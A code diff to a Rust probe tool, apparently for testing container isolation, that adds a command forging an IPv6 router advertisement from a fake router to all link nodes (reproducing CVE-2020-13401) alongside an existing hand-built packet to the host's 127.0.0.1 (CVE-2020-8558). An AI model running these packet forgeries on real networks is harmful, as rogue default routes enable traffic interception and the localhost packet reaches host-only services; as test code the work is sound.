@@ -9,6 +9,9 @@
 //!   read their environment and descriptors, as a process that may ptrace them could.
 //! - `probe swap A B`: exchange two names for ever (`renameat2(RENAME_EXCHANGE)`),
 //!   so that a walk of the container's files meets each name as either one.
+//! - `probe ra DONE`: send an IPv6 router advertisement to all nodes of the link
+//!   (ff02::1) from a made-up router, as CVE-2020-13401 does, then an ordinary
+//!   datagram to the gateway's port DONE to say it was sent.
 //! - `probe localnet PORT DONE`: send a datagram to the host's 127.0.0.1:PORT the way
 //!   CVE-2020-8558 does (a packet built by hand, handed to the gateway's MAC), then
 //!   an ordinary one to the gateway's port DONE to say it was sent.
@@ -183,8 +186,80 @@ fn checksum(header: &[u8]) -> u16 {
     !(sum as u16)
 }
 
-fn localnet(port: u16, done: u16) {
+/// A packet socket on eth0 (CAP_NET_RAW): the kernel adds the Ethernet header for
+/// `protocol`, to `mac`.
+fn send_raw(protocol: u16, mac: [u8; 6], packet: &[u8]) {
     use std::os::fd::AsRawFd;
+    let protocol = protocol.to_be();
+    // SAFETY: plain socket(2); the descriptor is owned below.
+    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_DGRAM, i32::from(protocol)) };
+    assert!(
+        fd >= 0,
+        "packet socket: {}",
+        std::io::Error::last_os_error()
+    );
+    // SAFETY: a new descriptor of ours.
+    let socket = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
+    // SAFETY: a zeroed sockaddr_ll is valid; the fields are set below.
+    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
+    to.sll_family = libc::AF_PACKET as u16;
+    to.sll_protocol = protocol;
+    // SAFETY: a NUL-terminated name.
+    to.sll_ifindex = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) } as i32;
+    to.sll_halen = 6;
+    to.sll_addr[..6].copy_from_slice(&mac);
+    // SAFETY: the buffer and the address are live for the call, with their sizes.
+    let sent = unsafe {
+        libc::sendto(
+            socket.as_raw_fd(),
+            packet.as_ptr().cast(),
+            packet.len(),
+            0,
+            (&raw const to).cast(),
+            size_of::<libc::sockaddr_ll>() as u32,
+        )
+    };
+    assert!(sent >= 0, "sendto: {}", std::io::Error::last_os_error());
+}
+
+fn ra(done: u16) {
+    let src: [u8; 16] = "fe80::bad"
+        .parse::<std::net::Ipv6Addr>()
+        .expect("addr")
+        .octets();
+    let dst: [u8; 16] = "ff02::1"
+        .parse::<std::net::Ipv6Addr>()
+        .expect("addr")
+        .octets();
+    // ICMPv6 router advertisement: type 134, hop limit 64, router lifetime 1800 s
+    // (a default router), no options.
+    let mut icmp = vec![134u8, 0, 0, 0, 64, 0];
+    icmp.extend_from_slice(&1800u16.to_be_bytes());
+    icmp.extend_from_slice(&[0; 8]); // reachable time, retransmit timer
+    // The checksum covers a pseudo-header: source, destination, length, next header.
+    let mut pseudo = Vec::new();
+    pseudo.extend_from_slice(&src);
+    pseudo.extend_from_slice(&dst);
+    pseudo.extend_from_slice(&(icmp.len() as u32).to_be_bytes());
+    pseudo.extend_from_slice(&[0, 0, 0, 58]);
+    pseudo.extend_from_slice(&icmp);
+    let sum = checksum(&pseudo);
+    icmp[2..4].copy_from_slice(&sum.to_be_bytes());
+    let mut packet = vec![0x60, 0, 0, 0];
+    packet.extend_from_slice(&(icmp.len() as u16).to_be_bytes());
+    packet.extend_from_slice(&[58, 255]); // ICMPv6; hop limit 255, as RAs must have
+    packet.extend_from_slice(&src);
+    packet.extend_from_slice(&dst);
+    packet.extend_from_slice(&icmp);
+    // ff02::1 on Ethernet: 33:33 and the address's last four bytes.
+    send_raw(libc::ETH_P_IPV6 as u16, [0x33, 0x33, 0, 0, 0, 1], &packet);
+    let udp = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp");
+    udp.send_to(b"done", (gateway(), done))
+        .expect("the done datagram");
+    println!("advertised a default router on the link");
+}
+
+fn localnet(port: u16, done: u16) {
     let gw = gateway();
     // An ordinary socket first: our own address, and the gateway's MAC resolved.
     let udp = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp");
@@ -221,37 +296,7 @@ fn localnet(port: u16, done: u16) {
     packet[22..24].copy_from_slice(&port.to_be_bytes());
     packet[24..26].copy_from_slice(&(8 + payload.len() as u16).to_be_bytes());
     packet.extend_from_slice(payload); // UDP checksum 0: none, as IPv4 allows
-    // A packet socket (CAP_NET_RAW): the kernel adds the Ethernet header.
-    let eth_p_ip = (libc::ETH_P_IP as u16).to_be();
-    // SAFETY: plain socket(2); the descriptor is owned below.
-    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_DGRAM, i32::from(eth_p_ip)) };
-    assert!(
-        fd >= 0,
-        "packet socket: {}",
-        std::io::Error::last_os_error()
-    );
-    // SAFETY: a new descriptor of ours.
-    let socket = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
-    // SAFETY: a zeroed sockaddr_ll is valid; the fields are set below.
-    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
-    to.sll_family = libc::AF_PACKET as u16;
-    to.sll_protocol = eth_p_ip;
-    // SAFETY: a NUL-terminated name.
-    to.sll_ifindex = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) } as i32;
-    to.sll_halen = 6;
-    to.sll_addr[..6].copy_from_slice(&mac);
-    // SAFETY: the buffer and the address are live for the call, with their sizes.
-    let sent = unsafe {
-        libc::sendto(
-            socket.as_raw_fd(),
-            packet.as_ptr().cast(),
-            packet.len(),
-            0,
-            (&raw const to).cast(),
-            size_of::<libc::sockaddr_ll>() as u32,
-        )
-    };
-    assert!(sent >= 0, "sendto: {}", std::io::Error::last_os_error());
+    send_raw(libc::ETH_P_IP as u16, mac, &packet);
     udp.send(b"done").expect("the done datagram");
     println!("sent to 127.0.0.1:{port} through {gw}");
 }
@@ -283,12 +328,18 @@ fn main() {
         ["syscalls"] => syscalls(),
         ["watch", stop] => watch(stop),
         ["swap", a, b] => swap(a, b),
+        ["ra", done] => match done.parse() {
+            Ok(done) => ra(done),
+            _ => std::process::exit(2),
+        },
         ["localnet", port, done] => match (port.parse(), done.parse()) {
             (Ok(port), Ok(done)) => localnet(port, done),
             _ => std::process::exit(2),
         },
         _ => {
-            eprintln!("usage: probe syscalls | watch SECONDS | swap A B | localnet PORT DONE");
+            eprintln!(
+                "usage: probe syscalls | watch SECONDS | swap A B | ra DONE | localnet PORT DONE"
+            );
             std::process::exit(2);
         }
     }
